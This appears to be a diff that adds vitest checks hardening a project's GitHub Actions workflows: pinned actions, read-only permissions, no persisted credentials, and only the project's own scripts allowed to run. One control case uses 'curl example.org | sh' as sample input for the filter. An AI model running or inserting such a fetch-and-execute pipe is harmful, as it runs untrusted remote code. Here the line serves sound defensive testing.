@@ -2,6 +2,7 @@
 import { execFileSync } from "node:child_process";
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
+import { format } from "prettier";
 import { expect, it } from "vitest";
 import { launchOptions, launchOptionsFor } from "../../../web/scripts/chromium.mjs";
 
@@ -51,4 +52,38 @@ it("and no file turns a sandbox off by itself", () => {
   // Playwright's own word in a comment is the only one.
   for (const file of files.filter((name) => !name.endsWith("chromium.mjs")))
     for (const word of [OFF, APT]) expect(read(file).includes(word), file).toBe(false);
+});
+
+const workflows = tracked(".github/workflows");
+/** What a workflow runs that is not a script of ours, the container's packages, or the release's draft. */
+const foreign = (yaml: string) =>
+  [...yaml.matchAll(/^\s*(?:- )?run: (.*)$/gm)]
+    .map(([, command = ""]) => command)
+    .filter((command) => !/^(scripts\/\w+|apt-get update|gh release create)\b/.test(command));
+/** Actions that are not pinned to a commit, with the version that it is. */
+const unpinned = (yaml: string) =>
+  [...yaml.matchAll(/uses: (.*)$/gm)]
+    .map(([, action = ""]) => action)
+    .filter((action) => !/^actions\/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(action));
+
+it.each(workflows)(
+  "%s is YAML, pins what it uses, may read alone, and calls our scripts",
+  async (file) => {
+    const yaml = read(file);
+    expect(await format(yaml, { parser: "yaml", printWidth: 100 })).toBe(yaml);
+    expect(unpinned(yaml)).toEqual([]);
+    expect(foreign(yaml)).toEqual([]);
+    expect(yaml).toMatch(/^permissions:\n {2}contents: read\n(?! )/m);
+    expect(yaml).toContain("persist-credentials: false");
+    for (const [, script = ""] of yaml.matchAll(/run: (scripts\/\w+)/g))
+      expect(tracked("scripts")).toContain(script);
+  },
+);
+
+it("and the controls of that: a tab, a tag, another command", async () => {
+  expect(workflows).toHaveLength(3);
+  await expect(format("on:\n\tpush:\n", { parser: "yaml" })).rejects.toThrow();
+  await expect(format("on: [push\n", { parser: "yaml" })).rejects.toThrow();
+  expect(unpinned("- uses: actions/checkout@v5")).toEqual(["actions/checkout@v5"]);
+  expect(foreign("- run: curl example.org | sh")).toEqual(["curl example.org | sh"]);
 });
